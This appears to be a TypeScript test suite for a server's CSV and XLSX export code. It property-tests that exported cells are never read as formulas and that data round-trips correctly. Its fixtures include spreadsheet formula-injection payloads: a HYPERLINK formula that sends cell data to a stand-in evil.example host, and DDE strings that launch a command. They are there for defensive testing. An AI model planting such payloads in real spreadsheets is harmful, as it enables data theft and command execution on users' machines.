import { Readable } from "node:stream";
import { buffer } from "node:stream/consumers";
import fc from "fast-check";
import Papa from "papaparse";
import readXlsxFile from "read-excel-file/node";
import { describe, expect, test } from "vitest";
import { cellOf, plainCell, safeCell, type Cell } from "#server/resources/cells.ts";
import type { FileColumn } from "#server/resources/kinds/kind.ts";
import { csvOf } from "#server/resources/csv.ts";
import { xlsxOf } from "#server/resources/xlsx.ts";

const hostile = fc.oneof(
  fc.string({ unit: "grapheme" }),
  fc
    .tuple(
      fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "\0", "'", "''", "＝", "＋", "－", "＠"),
      fc.string(),
    )
    .map((parts) => parts.join("")),
  fc.constantFrom(
    '=HYPERLINK("https://evil.example?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    '"=1+1"',
    "a,b\r\nc;d",
    'say "no"',
    "  =1",
  ),
);
/** What a spreadsheet treats as a formula, or as a character before one. */
const danger = /^[=+\-@\t\r\n\0＝＋－＠]/;

async function* batches(rows: Cell[][]): AsyncGenerator<Cell[][]> {
  for (let from = 0; from < rows.length; from += 2) yield rows.slice(from, from + 2);
}

describe("an export cell [1.2.10]", () => {
  test("is never a formula, and its text can be recovered", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const cell = safeCell(text);
        expect(cell).not.toMatch(danger);
        expect(plainCell(cell)).toBe(text);
      }),
      { numRuns: 2_000 },
    );
  });

  test("renders values of every type", () => {
    const values: [unknown, Cell][] = [
      [null, ""],
      [undefined, ""],
      [3, 3],
      [-3.5, -3.5],
      [true, true],
      ["Ann", "Ann"],
      ["=1", "'=1"],
      [["a", "b"], "a; b"],
      [["=1", "b"], "'=1; b"],
      [{ id: 1, name: "Ann Lee" }, "Ann Lee"],
      [{ id: 1, name: "=Ann" }, "'=Ann"],
      [
        [
          { id: 1, name: "Ann" },
          { id: 2, name: "Ben" },
        ],
        "Ann; Ben",
      ],
      [{ a: 1 }, '{"a":1}'],
    ];
    for (const [value, cell] of values) expect(cellOf(value)).toEqual(cell);
  });
});

describe("an export file", () => {
  const rowsOfTexts = fc.array(fc.tuple(hostile, hostile), { minLength: 1, maxLength: 8 });

  test("as CSV has a BOM and one line per row, and reads back as written [1.2.10][T-54]", async () => {
    await fc.assert(
      fc.asyncProperty(rowsOfTexts, async (rows) => {
        const cells = rows.map((row) => row.map((text) => safeCell(text)));
        const bytes = await buffer(
          Readable.from(csvOf([{ label: "one" }, { label: "two" }], batches(cells))),
        );
        expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
        const text = bytes.toString("utf8").slice(1);
        expect(text.endsWith("\r\n")).toBe(true);
        const { data, errors } = Papa.parse<string[]>(text.replace(/\r\n$/, ""), {
          newline: "\r\n",
          delimiter: ",",
        });
        expect(errors).toEqual([]);
        const wellFormed = rows.map((row) => row.map((one) => one.toWellFormed()));
        expect(data.slice(1).map((row) => row.map(plainCell))).toEqual(wellFormed);
        for (const row of data) for (const cell of row) expect(cell).not.toMatch(danger);
      }),
      { numRuns: 200 },
    );
  });

  test("as XLSX opens with texts as texts and numbers as numbers [1.2.10]", async () => {
    const rows: Cell[][] = [
      ["'=1+1", 3, true],
      ["<&>\"' ]]> \u0001\u0008 \ud800 ünï 🦊", -2.5, false],
      ["", 0, true],
      ["  spaces  \n and lines", 1e21, false],
      ["x".repeat(40_000), Number.NaN, true],
    ];
    const bytes = await buffer(
      xlsxOf(
        "A name/with [signs] that is much too long for a sheet",
        ["t", "n", "b"].map((label) => ({ label })),
        batches(rows),
      ),
    );
    const [sheet] = await readXlsxFile(bytes, { trim: false });
    expect(sheet!.data).toEqual([
      ["t", "n", "b"],
      ["'=1+1", 3, true],
      ["<&>\"' ]]> \ufffd\ufffd \ufffd ünï 🦊", -2.5, false],
      [null, 0, true],
      ["  spaces  \n and lines", 1e21, false],
      [`${"x".repeat(32_766)}…`, null, true],
    ]);
  });

  test("as XLSX has times to the second and days without a time, as dates", async () => {
    const columns: FileColumn[] = [
      { label: "at", as: "dateTime" },
      { label: "on", as: "date" },
    ];
    const bytes = await buffer(
      xlsxOf("Dates", columns, batches([["2026-03-04T05:06:07.890Z", "2026-03-04"]])),
    );
    const [sheet] = await readXlsxFile(bytes);
    expect(sheet!.data.at(-1)).toEqual([new Date("2026-03-04T05:06:08Z"), new Date("2026-03-04T00:00:00Z")]);
  });

  test("as XLSX continues on a further sheet when one is full, and loses no row", async () => {
    const numbered = (count: number): Cell[][] => Array.from({ length: count }, (_, i) => [i]);
    const sheetsOf = async (count: number) => {
      const name = "A name that is as long as a name can be";
      const bytes = await buffer(xlsxOf(name, [{ label: "n" }], batches(numbered(count)), 3));
      return (await readXlsxFile(bytes)).map(({ sheet, data }) => [sheet, data.flat()]);
    };
    const [first, second] = ["A name that is as long as a nam", "A name that is as long as a n 2"];
    expect(await sheetsOf(0)).toEqual([[first, ["n"]]]);
    expect(await sheetsOf(3)).toEqual([[first, ["n", 0, 1, 2]]]);
    expect(await sheetsOf(4)).toEqual([
      [first, ["n", 0, 1, 2]],
      [second, ["n", 3]],
    ]);
    expect((await sheetsOf(8)).map(([, cells]) => cells)).toEqual([
      ["n", 0, 1, 2],
      ["n", 3, 4, 5],
      ["n", 6, 7],
    ]);
  });

  test("fails if reading the rows fails, instead of ending as if complete", async () => {
    async function* failing(): AsyncGenerator<Cell[][]> {
      yield [["a"]];
      throw new Error("the database is gone");
    }
    for (const file of [csvOf([{ label: "one" }], failing()), xlsxOf("s", [{ label: "one" }], failing())])
      await expect(buffer(Readable.from(file))).rejects.toThrow("the database is gone");
  });
});
